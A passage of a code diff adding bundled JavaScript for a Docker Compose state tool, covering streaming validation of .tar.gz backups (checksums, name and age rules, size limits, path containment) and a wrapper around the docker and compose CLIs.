+            if (head.length >= 2) {
+                if (head[0] === 0x1f && head[1] === 0x8b) {
+                    problems.add({ code: 'tar-corrupt', message: 'the gzip stream contains another gzip stream, not a tar archive' });
+                    feedParser = false;
+                }
+                head = null;
+            }
+        }
+        if (!feedParser)
+            return;
+        if (sawEof) {
+            checkZeroTail(chunk);
+            return;
+        }
+        try {
+            parser.write(chunk);
+        }
+        catch (err) {
+            problems.add({ code: 'tar-corrupt', message: `tar parser failed: ${err.message}` });
+            feedParser = false;
+            return;
+        }
+        if (sawEof && !zeroTailChecked) {
+            zeroTailChecked = true;
+            const rest = bufferKey ? (parser[bufferKey]) : undefined;
+            checkZeroTail(rest);
+        }
+    };
+    // ---- gzip layer ------------------------------------------------------------------------
+    const gunzip = external_node_zlib_default().createGunzip({ chunkSize: GUNZIP_CHUNK });
+    let gzipFailed = false;
+    let gzipEnded = false;
+    const gzipDone = new Promise((resolve) => {
+        gunzip.on('end', () => {
+            gzipEnded = true;
+            resolve();
+        });
+        gunzip.on('close', () => resolve());
+        gunzip.on('error', (err) => {
+            if (!stopped)
+                problems.add(gzipProblem(err));
+            gzipFailed = true;
+            stop();
+            resolve();
+        });
+    });
+    gunzip.on('data', (chunk) => {
+        if (stopped)
+            return;
+        uncompressed += chunk.length;
+        if (uncompressed > limits.maxUncompressedBytes) {
+            problems.add({
+                code: 'too-large',
+                message: `uncompressed content exceeds ${limits.maxUncompressedBytes} bytes (--max-uncompressed-bytes); stopped reading`,
+            });
+            stop();
+            return;
+        }
+        toTar(chunk);
+    });
+    function stop() {
+        if (stopped)
+            return;
+        stopped = true;
+        gunzip.destroy();
+    }
+    // ---- file layer ------------------------------------------------------------------------
+    let first = true;
+    try {
+        for await (const chunk of source) {
+            if (stopped)
+                break;
+            if (first) {
+                first = false;
+                // Check the magic ourselves: zlib would say "incorrect header check" for a plain tar,
+                // which hides the likely cause.
+                if (chunk.length >= 2 && !(chunk[0] === 0x1f && chunk[1] === 0x8b)) {
+                    problems.add({ code: 'gzip-corrupt', message: 'not a gzip file (no gzip magic bytes); a plain tar or another format named .tar.gz?' });
+                    stopped = true;
+                    gunzip.destroy();
+                }
+            }
+            hash.update(chunk);
+            bytesRead += chunk.length;
+            if (stopped)
+                break;
+            if (!gunzip.write(chunk)) {
+                await Promise.race([(0,external_node_events_.once)(gunzip, 'drain'), gzipDone]);
+            }
+        }
+        if (!stopped) {
+            readToEnd = true;
+            gunzip.end();
+        }
+    }
+    catch (err) {
+        problems.add({ code: 'unreadable', message: `reading the file failed: ${err.message}` });
+        stop();
+    }
+    await gzipDone;
+    if (readToEnd && gzipEnded && !gzipFailed && !stopped) {
+        if (gunzip.bytesWritten !== bytesRead) {
+            problems.add({
+                code: 'gzip-corrupt',
+                message: `${bytesRead - gunzip.bytesWritten} bytes follow the end of the gzip stream`,
+            });
+        }
+        if (head && feedParser) {
+            // fewer than 2 bytes of tar in total
+            problems.add({ code: 'tar-corrupt', message: 'the gzip stream holds no tar archive' });
+        }
+        if (feedParser) {
+            parser.end();
+            await Promise.race([parserEnded, new Promise((r) => setImmediate(r))]);
+            if (!sawEof) {
+                problems.add({
+                    code: 'truncated',
+                    message: 'the tar archive has no end-of-archive marker (two zero blocks): it was cut short',
+                });
+            }
+        }
+        if (entries === 0 && !problems.has('too-many-entries')) {
+            problems.add({ code: 'no-entries', message: 'the archive holds no entries' });
+        }
+    }
+    const list = problems.finish();
+    // "Unrecognized archive format" from the parser is how it says "no entries"; one finding is enough.
+    const deduped = entries === 0 && sawEof ? list.filter((p) => !(p.code === 'tar-corrupt' && /Unrecognized archive format/.test(p.message))) : list;
+    return {
+        sha256: hash.digest('hex'),
+        bytesRead,
+        uncompressedBytes: uncompressed,
+        entries,
+        readToEnd,
+        problems: deduped,
+    };
+}
+
+;// CONCATENATED MODULE: ./src/backup/names.ts
+const ARCHIVE_SUFFIX = '.tar.gz';
+const CHECKSUM_SUFFIX = '.sha256';
+/** A stamp may be this far in the future before it is refused (clock skew between hosts). */
+const FUTURE_SKEW_MS = 5 * 60 * 1000;
+const NAME_RE = /^([a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?)-(\d{8}T\d{6}Z)\.tar\.gz$/;
+const STAMP_RE = /^(\d{4})(\d{2})(\d{2})T(\d{2})(\d{2})(\d{2})Z$/;
+/** `20260131T235959Z` for a Date (UTC, second precision). */
+function formatStamp(date) {
+    return date.toISOString().replace(/\.\d{3}Z$/, 'Z').replace(/[-:]/g, '');
+}
+/** The Date a stamp names, or null when it is not a real UTC calendar time. */
+function parseStamp(stamp) {
+    const m = STAMP_RE.exec(stamp);
+    if (!m)
+        return null;
+    const [y, mo, d, h, mi, s] = m.slice(1).map(Number);
+    const date = new Date(Date.UTC(y, mo - 1, d, h, mi, s));
+    // Date.UTC rolls 20260230 over into March: a round trip catches every impossible field.
+    if (formatStamp(date) !== stamp)
+        return null;
+    return date;
+}
+function archiveName(module, takenAt) {
+    return `${module}-${formatStamp(takenAt)}${ARCHIVE_SUFFIX}`;
+}
+/**
+ * Judge a backup's file name against the modules whose backups may cover this one (the module
+ * itself and its `ref_modules`) and its maximum age. Every failed rule is reported.
+ */
+function checkArchiveName(fileName, allowed, maxAgeHours, now) {
+    const problems = [];
+    const expected = `<${allowed.join('|')}>-<YYYYMMDD>T<HHMMSS>Z${ARCHIVE_SUFFIX}`;
+    const m = NAME_RE.exec(fileName);
+    if (!m) {
+        // Say "bad stamp" when an allowed module name is clearly there and only the stamp is off.
+        const looksLikeOurs = fileName.endsWith(ARCHIVE_SUFFIX) && allowed.some((a) => fileName.startsWith(`${a}-`));
+        problems.push(looksLikeOurs
+            ? { code: 'bad-stamp', message: `the time stamp in ${JSON.stringify(fileName)} is not <YYYYMMDD>T<HHMMSS>Z (UTC); expected ${expected}` }
+            : { code: 'bad-name', message: `${JSON.stringify(fileName)} is not named ${expected}` });
+        return { matchedModule: null, createdAt: null, problems };
+    }
+    const [, name, stamp] = m;
+    const matchedModule = allowed.includes(name) ? name : null;
+    if (!matchedModule) {
+        problems.push({
+            code: 'wrong-module',
+            message: `the backup is of module '${name}', which does not cover this module (accepted: ${allowed.join(', ')})`,
+        });
+    }
+    const createdAt = parseStamp(stamp);
+    if (!createdAt) {
+        problems.push({ code: 'bad-stamp', message: `the time stamp ${stamp} is not a real UTC date and time` });
+        return { matchedModule, createdAt: null, problems };
+    }
+    const ageMs = now.getTime() - createdAt.getTime();
+    if (ageMs < -FUTURE_SKEW_MS) {
+        problems.push({
+            code: 'stamp-in-future',
+            message: `the time stamp ${stamp} is ${Math.round(-ageMs / 60000)} minutes in the future (more than 5 minutes of clock skew); check the clocks or the file name`,
+        });
+    }
+    else if (ageMs > maxAgeHours * 3600 * 1000) {
+        problems.push({
+            code: 'too-old',
+            message: `the backup is ${(ageMs / 3600000).toFixed(1)} hours old; this module accepts at most ${maxAgeHours} hours (backup.max_age_hours). Take a fresh snapshot.`,
+        });
+    }
+    return { matchedModule, createdAt, problems };
+}
+
+;// CONCATENATED MODULE: ./src/backup/verify.ts
+/**
+ * verify-backup (DESIGN §5): is this file a backup we may trust for this module? The file is
+ * untrusted input. Location, name, age and checksum are judged first; then one streaming pass
+ * (./archive.ts) hashes, gunzips and walks it without extracting anything.
+ *
+ * Never throws for anything about the file: every finding, including "missing", "a directory" and
+ * "outside the roots", is a problem with a stable code and `verified: false` (exit 1, not 3).
+ */
+
+
+
+
+
+/** Read size per chunk: big enough that syscalls and callbacks are noise, small enough for 64 MiB RSS. */
+const READ_CHUNK = 1024 * 1024;
+/** A `.sha256` file is one line; anything larger is not one. */
+const MAX_CHECKSUM_FILE = 4096;
+function errnoCode(err) {
+    return err?.code;
+}
+function isInside(root, file) {
+    const rel = external_node_path_default().relative(root, file);
+    return rel !== '' && !rel.startsWith(`..${(external_node_path_default()).sep}`) && rel !== '..' && !external_node_path_default().isAbsolute(rel);
+}
+async function resolveRoots(roots, cwd) {
+    const out = { roots: [], missing: [] };
+    for (const r of roots) {
+        try {
+            out.roots.push(await (0,promises_namespaceObject.realpath)(external_node_path_default().resolve(cwd, r)));
+        }
+        catch {
+            out.missing.push(r);
+        }
+    }
+    return out;
+}
+function describeFsError(err) {
+    const code = errnoCode(err);
+    if (code === 'EACCES' || code === 'EPERM')
+        return 'permission denied';
+    if (code === 'ELOOP')
+        return 'too many levels of symbolic links';
+    return err?.message ?? String(err);
+}
+/** The expected sha256 from a `.sha256` file beside the archive, or a problem; null when absent. */
+async function readChecksumFile(archiveReal, refName, roots) {
+    const file = `${archiveReal}${CHECKSUM_SUFFIX}`;
+    const shown = external_node_path_default().basename(file);
+    try {
+        await (0,promises_namespaceObject.lstat)(file);
+    }
+    catch (err) {
+        if (errnoCode(err) === 'ENOENT')
+            return null;
+        return { problem: { code: 'checksum-unreadable', message: `${shown}: ${describeFsError(err)}` } };
+    }
+    let fh;
+    try {
+        const real = await (0,promises_namespaceObject.realpath)(file);
+        if (!roots.some((r) => isInside(r, real))) {
+            return { problem: { code: 'checksum-unreadable', message: `${shown} resolves outside the backup roots` } };
+        }
+        fh = await (0,promises_namespaceObject.open)(real, external_node_fs_namespaceObject.constants.O_RDONLY | external_node_fs_namespaceObject.constants.O_NOFOLLOW | external_node_fs_namespaceObject.constants.O_NONBLOCK);
+        const st = await fh.stat();
+        if (!st.isFile())
+            return { problem: { code: 'checksum-unreadable', message: `${shown} is not a regular file` } };
+        if (st.size > MAX_CHECKSUM_FILE) {
+            return { problem: { code: 'checksum-unreadable', message: `${shown} is ${st.size} bytes; a checksum file is one line` } };
+        }
+        const text = (await fh.readFile()).toString('utf8');
+        const line = text.split(/\r?\n/).find((l) => l.trim() !== '')?.trim() ?? '';
+        // `sha256sum` writes `<hex>  <name>` (or `<hex> *<name>` in binary mode); a bare hex is accepted too.
+        const m = /^([0-9a-fA-F]{64})(?:\s+\*?(.+))?$/.exec(line);
+        if (!m) {
+            return { problem: { code: 'checksum-unreadable', message: `${shown} is not '<sha256 hex>  <file name>' (as sha256sum writes it)` } };
+        }
+        const named = m[2]?.trim();
+        if (named !== undefined && external_node_path_default().basename(named) !== external_node_path_default().basename(archiveReal) && external_node_path_default().basename(named) !== refName) {
+            return {
+                problem: {
+                    code: 'checksum-mismatch',
+                    message: `${shown} is the checksum of ${JSON.stringify(named.slice(0, 200))}, not of ${external_node_path_default().basename(archiveReal)}`,
+                },
+            };
+        }
+        return { expected: m[1].toLowerCase() };
+    }
+    catch (err) {
+        return { problem: { code: 'checksum-unreadable', message: `${shown}: ${describeFsError(err)}` } };
+    }
+    finally {
+        await fh?.close().catch(() => undefined);
+    }
+}
+async function verifyBackup(input) {
+    const absRef = external_node_path_default().resolve(input.cwd, input.backupRef || '.');
+    const report = {
+        verified: false,
+        path: absRef,
+        sha256: null,
+        bytes: null,
+        uncompressed_bytes: null,
+        entries: null,
+        created_at: null,
+        matched_module: null,
+        problems: [],
+    };
+    try {
+        await verifyInto(report, input, absRef);
+    }
+    catch (err) {
+        // Defence in depth: nothing above should throw, but if it does the answer is still "no".
+        report.problems.push({ code: 'unreadable', message: `verification failed: ${err?.message ?? String(err)}` });
+    }
+    report.verified = report.problems.length === 0;
+    return report;
+}
+async function verifyInto(report, input, absRef) {
+    const problems = report.problems;
+    const mod = input.module;
+    if (!input.backupRef) {
+        problems.push({ code: 'not-found', message: 'no backup-ref was given: name the .tar.gz backup to verify' });
+        return;
+    }
+    if (!mod.backup) {
+        problems.push({
+            code: 'no-backup-config',
+            message: `module '${mod.name}' declares no backup: section (ref_modules, max_age_hours), so no backup can be accepted for it`,
+        });
+    }
+    // ---- where is it, really? ----
+    if (input.backupRoots.length === 0) {
+        problems.push({
+            code: 'no-backup-root',
+            message: 'no backup root is configured: pass --backup-root DIR (repeatable) naming where backups may live',
+        });
+    }
+    const { roots, missing } = await resolveRoots(input.backupRoots, input.cwd);
+    let real = null;
+    try {
+        real = await (0,promises_namespaceObject.realpath)(absRef);
+        report.path = real;
+    }
+    catch (err) {
+        const code = errnoCode(err);
+        if (code === 'ENOENT' || code === 'ENOTDIR') {
+            problems.push({ code: 'not-found', message: `${input.backupRef} does not exist` });
+        }
+        else {
+            problems.push({ code: 'unreadable', message: `${input.backupRef}: ${describeFsError(err)}` });
+        }
+    }
+    let inside = false;
+    if (real && input.backupRoots.length > 0) {
+        inside = roots.some((r) => isInside(r, real));
+        if (!inside) {
+            const missingNote = missing.length ? ` (roots that do not exist: ${missing.join(', ')})` : '';
+            problems.push({
+                code: 'outside-backup-root',
+                message: `${real} (the real path, symlinks resolved) is not inside a backup root: ${roots.join(', ') || 'none exist'}${missingNote}`,
+            });
+        }
+    }
+    // ---- its name: module and age ----
+    if (mod.backup) {
+        const allowed = [...new Set([mod.name, ...mod.backup.refModules])];
+        const verdict = checkArchiveName(external_node_path_default().basename(real ?? absRef), allowed, mod.backup.maxAgeHours, input.now);
+        problems.push(...verdict.problems);
+        report.matched_module = verdict.matchedModule;
+        report.created_at = verdict.createdAt?.toISOString() ?? null;
+    }
+    // Never open a file outside the roots: reading it is what the roots exist to prevent.
+    if (!real || !inside)
+        return;
+    let fh;
+    try {
+        try {
+            // O_NOFOLLOW: the real path has no links left, so a link appearing now is a swap; refuse it.
+            // O_NONBLOCK: opening a FIFO must not hang.
+            fh = await (0,promises_namespaceObject.open)(real, external_node_fs_namespaceObject.constants.O_RDONLY | external_node_fs_namespaceObject.constants.O_NOFOLLOW | external_node_fs_namespaceObject.constants.O_NONBLOCK);
+        }
+        catch (err) {
+            const code = errnoCode(err);
+            if (code === 'EISDIR')
+                problems.push({ code: 'not-a-regular-file', message: `${real} is a directory` });
+            else if (code === 'ENOENT')
+                problems.push({ code: 'not-found', message: `${real} disappeared while being verified` });
+            else
+                problems.push({ code: 'unreadable', message: `${real}: ${describeFsError(err)}` });
+            return;
+        }
+        const st = await fh.stat();
+        if (st.isDirectory()) {
+            problems.push({ code: 'not-a-regular-file', message: `${real} is a directory, not a backup file` });
+            return;
+        }
+        if (!st.isFile()) {
+            problems.push({ code: 'not-a-regular-file', message: `${real} is not a regular file (a device, FIFO or socket)` });
+            return;
+        }
+        // The descriptor, not the name, is what gets read: confirm it is the file inside the root.
+        const viaProc = await (0,promises_namespaceObject.readlink)(`/proc/self/fd/${fh.fd}`).catch(() => null);
+        if (viaProc !== null && viaProc !== real) {
+            problems.push({ code: 'outside-backup-root', message: `${real} was replaced while being opened (now ${viaProc})` });
+            return;
+        }
+        report.bytes = st.size;
+        if (st.size === 0) {
+            problems.push({ code: 'empty-file', message: `${real} is empty (0 bytes)` });
+            return;
+        }
+        const checksum = await readChecksumFile(real, external_node_path_default().basename(absRef), roots);
+        if (checksum && 'problem' in checksum)
+            problems.push(checksum.problem);
+        let inspection;
+        const stream = fh.createReadStream({ highWaterMark: READ_CHUNK, autoClose: false, start: 0 });
+        try {
+            inspection = await inspectArchive(stream, {
+                maxUncompressedBytes: input.maxUncompressedBytes,
+                maxEntries: input.maxEntries,
+            });
+        }
+        finally {
+            stream.destroy();
+        }
+        problems.push(...inspection.problems);
+        report.entries = inspection.entries;
+        report.uncompressed_bytes = inspection.uncompressedBytes;
+        if (inspection.readToEnd) {
+            report.sha256 = inspection.sha256;
+            if (inspection.bytesRead !== st.size) {
+                problems.push({ code: 'unreadable', message: `${real} changed size while being read (${st.size} -> ${inspection.bytesRead} bytes)` });
+            }
+            if (checksum && 'expected' in checksum && checksum.expected !== inspection.sha256) {
+                problems.push({
+                    code: 'checksum-mismatch',
+                    message: `sha256 is ${inspection.sha256} but ${external_node_path_default().basename(real)}${CHECKSUM_SUFFIX} says ${checksum.expected}`,
+                });
+            }
+        }
+    }
+    finally {
+        await fh?.close().catch(() => undefined);
+    }
+}
+
+// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
+var dist = __nccwpck_require__(8815);
+;// CONCATENATED MODULE: external "node:child_process"
+const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
+;// CONCATENATED MODULE: ./src/runtime/process.ts
+/**
+ * The one place stateguard spawns processes. Always an argument array, never a shell, so no input
+ * can be interpolated into a command line.
+ */
+
+const spawnProcess = (command, args, opts = {}) => new Promise((resolve) => {
+    let stdout = '';
+    let stderr = '';
+    let settled = false;
+    const child = (0,external_node_child_process_namespaceObject.spawn)(command, [...args], {
+        cwd: opts.cwd,
+        env: { ...process.env, DOCKER_CLI_HINTS: 'false', ...opts.env },
+        stdio: ['pipe', 'pipe', 'pipe'],
+        shell: false,
+    });
+    const finish = (result) => {
+        if (settled)
+            return;
+        settled = true;
+        if (timer)
+            clearTimeout(timer);
+        resolve(result);
+    };
+    const timer = opts.timeoutMs
+        ? setTimeout(() => {
+            child.kill('SIGKILL');
+            finish({ code: 124, stdout, stderr: stderr + `\n(killed after ${opts.timeoutMs} ms)` });
+        }, opts.timeoutMs)
+        : undefined;
+    if (opts.stdoutSink) {
+        child.stdout.pipe(opts.stdoutSink, { end: false });
+    }
+    else {
+        child.stdout.setEncoding('utf8');
+        child.stdout.on('data', (chunk) => {
+            stdout += chunk;
+            opts.onStdout?.(chunk);
+        });
+    }
+    child.stderr.setEncoding('utf8');
+    child.stderr.on('data', (chunk) => {
+        stderr += chunk;
+        opts.onStderr?.(chunk);
+    });
+    child.on('error', (err) => {
+        finish({ code: err.code === 'ENOENT' ? 127 : 126, stdout, stderr: `${command}: ${err.message}` });
+    });
+    child.on('close', (code, signal) => {
+        finish({ code: code ?? (signal ? 128 : 1), stdout, stderr });
+    });
+    child.stdin.on('error', () => {
+        /* the child may exit before reading stdin; its exit code tells what happened */
+    });
+    if (opts.input !== undefined)
+        child.stdin.end(opts.input);
+    else
+        child.stdin.end();
+});
+/** Wraps a runner to count the processes it starts (benchmarks, process-count tests). */
+function countingRunner(inner) {
+    const calls = [];
+    return {
+        calls,
+        runner: (command, args, opts) => {
+            calls.push([command, ...args]);
+            return inner(command, args, opts);
+        },
+    };
+}
+
+;// CONCATENATED MODULE: ./src/runtime/docker-cli.ts
+/**
+ * Runtime implemented with the `docker` CLI and the compose CLI, so DOCKER_HOST, contexts, ssh and
+ * TLS behave exactly as the operator's own `docker` does. State is read from `docker ps` /
+ * `docker inspect` JSON by compose labels — never by container name and never by parsing compose's
+ * human output (compose v1 even exits 0 on unknown flags).
+ */
+
+
+
+const LABEL = {
+    project: 'com.docker.compose.project',
+    service: 'com.docker.compose.service',
+    oneoff: 'com.docker.compose.oneoff',
+    configHash: 'com.docker.compose.config-hash',
+};
+function firstLine(text) {
+    return text.trim().split('\n').find((l) => l.trim() !== '')?.trim() ?? '';
+}
+function describeEngine(env) {
+    if (env.DOCKER_HOST)
+        return `DOCKER_HOST=${env.DOCKER_HOST}`;
+    if (env.DOCKER_CONTEXT)
+        return `docker context ${env.DOCKER_CONTEXT}`;
+    return 'the current docker context (DOCKER_HOST is not set)';
+}
+/** Parse the JSON array printed by `docker inspect` into ContainerInfo records. */
+function parseInspect(stdout) {
+    const trimmed = stdout.trim();
+    if (!trimmed.startsWith('['))
+        return [];
+    const raw = JSON.parse(trimmed);
+    return raw.map((c) => {
+        const labels = c.Config?.Labels ?? {};
+        const st = c.State ?? {};
+        const started = typeof st.StartedAt === 'string' && !st.StartedAt.startsWith('0001-') ? st.StartedAt : null;
+        const finished = typeof st.FinishedAt === 'string' && !st.FinishedAt.startsWith('0001-') ? st.FinishedAt : null;
+        return {
+            id: String(c.Id),
+            name: String(c.Name ?? '').replace(/^\//, ''),
+            imageRef: String(c.Config?.Image ?? ''),
+            imageId: String(c.Image ?? ''),
+            state: String(st.Status ?? 'dead'),
+            exitCode: typeof st.ExitCode === 'number' ? st.ExitCode : null,
+            health: st.Health?.Status ? String(st.Health.Status) : null,
+            startedAt: started,
+            finishedAt: finished,
+            createdAt: String(c.Created ?? ''),
+            labels,
+            project: labels[LABEL.project],
+            service: labels[LABEL.service],
+            oneoff: (labels[LABEL.oneoff] ?? '').toLowerCase() === 'true',
+            configHash: labels[LABEL.configHash],
+            env: Array.isArray(c.Config?.Env) ? c.Config.Env : [],
+            mounts: Array.isArray(c.Mounts)
+                ? c.Mounts.map((m) => ({
+                    type: String(m.Type ?? ''),
+                    name: m.Name ? String(m.Name) : undefined,
+                    source: String(m.Source ?? ''),
+                    destination: String(m.Destination ?? ''),
+                }))
+                : [],
+        };
+    });
+}
+/** `config --hash '*'` prints `service hash` per line (v1 and v2 alike). */
+function parseConfigHashes(stdout) {
+    const out = {};
+    for (const line of stdout.split('\n')) {
+        const m = /^(\S+)\s+([0-9a-f]{16,})\s*$/.exec(line.trim());
+        if (m)
+            out[m[1]] = m[2];
+    }
+    return out;
+}
+function parseRenderedConfig(stdout) {
+    const doc = (0,dist/* parse */.qg)(stdout, { maxAliasCount: 100 });
+    return doc?.services ?? {};
+}
+/**
+ * Normalise an image reference the way the engine lists RepoTags: implicit `:latest`, and the
+ * Docker Hub prefixes dropped (`docker.io/library/x` lists as `x`).
+ */
+function normalizeImageRef(ref) {
+    let r = ref.trim();
+    if (r.includes('@'))
+        return r; // digest refs compare as written
+    r = r.replace(/^docker\.io\/library\//, '').replace(/^docker\.io\//, '').replace(/^index\.docker\.io\//, '');
+    const lastSlash = r.lastIndexOf('/');
+    const tail = r.slice(lastSlash + 1);
+    if (!tail.includes(':'))
+        r += ':latest';
+    return r;
+}
+class DockerCli {
+    run;
+    env;
+    /** an explicit env (not process.env) is passed to every child, so DOCKER_HOST/DOCKER_CONTEXT given there are honoured */
+    childEnv;
+    flavor;
+    pinged;
+    constructor(opts = {}) {
+        this.run = opts.runner ?? spawnProcess;
+        this.env = opts.env ?? process.env;
+        this.childEnv = opts.env && opts.env !== process.env ? opts.env : undefined;
+        const forced = opts.compose ?? this.env.STATEGUARD_COMPOSE;
+        if (forced === 'v1' || forced === 'v2')
+            this.flavor = Promise.resolve(forced);
+    }
+    withEnv(opts) {
+        if (!this.childEnv)
+            return opts;
+        return { ...opts, env: { ...this.childEnv, ...opts?.env } };
+    }
+    docker(args, opts) {
+        return this.run('docker', args, this.withEnv(opts));
+    }
+    ping() {
+        this.pinged ??= (async () => {
+            const r = await this.docker(['version', '--format', '{{.Server.Version}}'], { timeoutMs: 30_000 });
+            if (r.code !== 0 || r.stdout.trim() === '') {
+                this.pinged = undefined;
+                throw new EnvironmentError(`Cannot reach the Docker engine via ${describeEngine(this.env)}: ` +
+                    `${firstLine(r.stderr) || `docker exited ${r.code}`}. ` +
+                    `Start the engine, or point DOCKER_HOST / 'docker context use' at the host that runs the services.`);
+            }
+        })();
+        return this.pinged;
+    }
+    composeFlavor() {
+        // v1 is not probed with `docker-compose version`: that is a Python start-up (~0.5 s) on the
+        // critical path of every plan. When it is missing, the first compose call says so (see compose()).
+        this.flavor ??= (async () => {
+            const v2 = await this.docker(['compose', 'version', '--short']);
+            return v2.code === 0 && /\d/.test(v2.stdout) ? 'v2' : 'v1';
+        })();
+        return this.flavor;
+    }
+    /** Build the compose command line for a target (exposed for unit tests of both flavors). */
+    static composeArgs(flavor, target, args) {
+        const base = target.files.flatMap((f) => ['-f', f]).concat(['-p', target.project], args);
+        return flavor === 'v2' ? ['docker', ['compose', ...base]] : ['docker-compose', base];
+    }
+    async compose(target, args, opts) {
+        const [cmd, full] = DockerCli.composeArgs(await this.composeFlavor(), target, args);
+        const r = await this.run(cmd, full, this.withEnv(opts));
+        if (r.code === 127 && cmd === 'docker-compose') {
+            throw new EnvironmentError('Neither `docker compose` (v2) nor `docker-compose` (v1) is installed; install one of them.', 'compose-error');
+        }
+        return r;
+    }
+    async listProjectContainers(project) {
+        await this.ping();
+        const ps = await this.docker(['ps', '-a', '-q', '--no-trunc', '--filter', `label=${LABEL.project}=${project}`]);
+        if (ps.code !== 0)
+            throw new EnvironmentError(`docker ps failed: ${firstLine(ps.stderr)}`);
+        const ids = ps.stdout.split('\n').map((s) => s.trim()).filter(Boolean);
+        const all = await this.inspectContainers(ids);
+        // The label filter already matched; re-check so a parsing surprise never mixes projects.
+        return all.filter((c) => c.project === project);
+    }
+    async inspectContainers(idsOrNames) {
+        if (idsOrNames.length === 0)
+            return [];
+        const r = await this.docker(['inspect', '--type', 'container', ...idsOrNames]);
+        // `docker inspect` exits 1 when some names are missing but still prints the found ones.
+        if (r.code !== 0 && !r.stdout.trim().startsWith('[')) {
+            if (/no such (container|object)/i.test(r.stderr))
+                return [];
+            throw new EnvironmentError(`docker inspect failed: ${firstLine(r.stderr)}`);
+        }
+        return parseInspect(r.stdout);
+    }
+    async renderProject(target) {
+        const [config, hashes] = await Promise.all([
+            this.compose(target, ['config']),
+            this.compose(target, ['config', '--hash', '*']),
+        ]);
+        for (const r of [config, hashes]) {
+            if (r.code !== 0) {
+                throw new UserError(`compose could not render project '${target.project}' from ${target.files.join(', ')}: ` +
+                    `${firstLine(r.stderr) || `exit ${r.code}`}`, { reason: 'compose-error' });
+            }
+        }
+        return { services: parseRenderedConfig(config.stdout), hashes: parseConfigHashes(hashes.stdout) };
+    }
+    async imageIds(refs) {
+        const out = {};
+        const unique = [...new Set(refs)];
+        for (const ref of unique)
+            out[ref] = null;
+        if (unique.length === 0)
+            return out;
+        const r = await this.docker(['image', 'inspect', ...unique]);
+        const text = r.stdout.trim();
+        if (r.code !== 0 && !text.startsWith('[')) {
+            if (/no such image/i.test(r.stderr))
+                return out;
+            throw new EnvironmentError(`docker image inspect failed: ${firstLine(r.stderr)}`);
+        }
+        const images = JSON.parse(text || '[]');
+        for (const ref of unique) {
+            const norm = normalizeImageRef(ref);
+            const hit = images.find((img) => img.Id === ref ||
+                (img.RepoTags ?? []).some((t) => normalizeImageRef(t) === norm) ||
+                (img.RepoDigests ?? []).some((d) => d === ref || normalizeImageRef(d) === norm));
+            out[ref] = hit ? hit.Id : null;
+        }
+        return out;
+    }
+    recreateService(target, service) {
+        return this.compose(target, ['up', '-d', '--no-deps', '--force-recreate', service]);
+    }
+    composeUp(target, services = []) {
+        return this.compose(target, ['up', '-d', ...services]);
+    }
+    composeDown(target, removeVolumes) {
+        return this.compose(target, ['down', '--remove-orphans', ...(removeVolumes ? ['-v'] : [])]);
+    }
+    async wait(containerId, timeoutMs) {
+        const r = await this.docker(['wait', containerId], { timeoutMs });
+        if (r.code === 124)
+            return { exitCode: null, timedOut: true };
+        const code = Number.parseInt(r.stdout.trim(), 10);
+        if (r.code !== 0 || Number.isNaN(code)) {
+            throw new EnvironmentError(`docker wait ${containerId.slice(0, 12)} failed: ${firstLine(r.stderr)}`);
+        }
+        return { exitCode: code, timedOut: false };
+    }
+    async stop(containerIds, timeoutSeconds = 10) {
+        if (containerIds.length === 0)
+            return;
+        const r = await this.docker(['stop', '-t', String(timeoutSeconds), ...containerIds]);
+        if (r.code !== 0)
+            throw new EnvironmentError(`docker stop failed: ${firstLine(r.stderr)}`);
+    }
+    async start(containerIds) {
+        if (containerIds.length === 0)
+            return;
+        const r = await this.docker(['start', ...containerIds]);
+        if (r.code !== 0)
+            throw new EnvironmentError(`docker start failed: ${firstLine(r.stderr)}`);
+    }
+    async logs(containerId, onChunk, follow) {
+        await this.docker(['logs', ...(follow ? ['--follow'] : []), containerId], {
+            onStdout: (chunk) => onChunk(chunk, 'stdout'),
+            onStderr: (chunk) => onChunk(chunk, 'stderr'),
+        });
+    }
+    async copyFrom(containerId, path, sink) {
+        const r = await this.docker(['cp', `${containerId}:${path}`, '-'], { stdoutSink: sink });
+        if (r.code !== 0) {
+            throw new EnvironmentError(`docker cp from ${containerId.slice(0, 12)}:${path} failed: ${firstLine(r.stderr)}`);
+        }
+    }
+    async copyTo(containerId, dir, tarArchive) {
+        const r = await this.docker(['cp', '-', `${containerId}:${dir}`], { input: tarArchive });
+        if (r.code !== 0) {
+            throw new EnvironmentError(`docker cp to ${containerId.slice(0, 12)}:${dir} failed: ${firstLine(r.stderr)}`);
+        }
+    }
+    async createNamedContainer(name, image, labels) {
+        const labelArgs = Object.entries(labels).flatMap(([k, v]) => ['--label', `${k}=${v}`]);
+        const r = await this.docker(['create', '--name', name, ...labelArgs, image]);
+        if (r.code === 0)
+            return true;
+        if (/already in use|conflict/i.test(r.stderr))
+            return false;
+        throw new EnvironmentError(`docker create ${name} failed: ${firstLine(r.stderr)}`);
+    }
+    async removeContainer(idOrName) {
+        const r = await this.docker(['rm', '-f', idOrName]);
+        if (r.code !== 0 && !/no such container/i.test(r.stderr)) {
+            throw new EnvironmentError(`docker rm ${idOrName} failed: ${firstLine(r.stderr)}`);
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./src/drift/semver.ts
+/** Split `repo[:tag][@digest]`; a registry port (`host:5000/x`) is not mistaken for a tag. */
+function parseImageRef(ref) {
+    let rest = ref.trim();
+    let digest = null;
+    const at = rest.indexOf('@');
+    if (at !== -1) {
+        digest = rest.slice(at + 1);
+        rest = rest.slice(0, at);
+    }
+    const lastSlash = rest.lastIndexOf('/');
+    const colon = rest.indexOf(':', lastSlash + 1);
+    const tag = colon === -1 ? null : rest.slice(colon + 1);
+    let repository = colon === -1 ? rest : rest.slice(0, colon);
+    repository = repository.replace(/^(docker\.io|index\.docker\.io)\/(library\/)?/, '');
+    return { repository, tag: tag ?? (digest ? null : 'latest'), digest };
+}
+const VERSION = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?(?:[-+][0-9A-Za-z.+-]*)?$/;
+function parseVersion(tag) {
+    if (tag === null)
+        return null;
+    const m = VERSION.exec(tag);
+    if (!m)
+        return null;
+    return [Number(m[1]), Number(m[2] ?? 0), Number(m[3] ?? 0)];
+}
+/**
+ * The bump from `from` to `to`. Different repositories, non-version tags, digests and identical
+ * versions (a re-pointed tag) are all `unknown`: the version number says nothing about the change.
+ * A downgrade is classified by the component that changed, like an upgrade: a major downgrade is as
